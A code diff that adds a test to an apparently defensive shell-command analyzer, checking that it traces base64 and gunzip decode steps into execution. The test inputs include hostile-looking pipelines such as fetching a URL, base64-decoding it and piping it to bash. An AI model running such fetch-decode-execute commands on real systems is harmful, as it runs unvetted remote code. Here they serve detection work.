@@ -59,4 +59,20 @@ describe('link', () => {
     expect(runs(body)).toHaveLength(1);
     expect(performance.now() - before).toBeLessThan(20_000);
   });
+
+  it('names the decoders on the way, apart from the fetches', () => {
+    const decodersOf = (body: string): readonly string[] => {
+      const effects = effectsOf(body);
+      const run = effects.findLast((effect) => effect.kind === 'execute');
+      return (run?.decoded ?? []).map((id) => {
+        const decode = effects.find((effect) => effect.id === id);
+        return decode?.kind === 'decode' ? `${decode.tool} ${decode.result}` : 'none';
+      });
+    };
+    expect(decodersOf('base64 -d x | gunzip | bash')).toEqual(['gunzip unknown', 'base64 unknown']);
+    expect(decodersOf('echo aG9zdG5hbWU= | base64 -d | perl')).toEqual(['base64 text']);
+    expect(decodersOf('base64 -d x > y; mv y z; bash z')).toEqual(['base64 unknown']);
+    expect(decodersOf('base64 -d x > y; hostname > y; bash y')).toEqual([]);
+    expect(runs('curl -s https://e.org/x | base64 -d | bash')[0]).toMatchObject({ from: [0], decoded: [1] });
+  });
 });
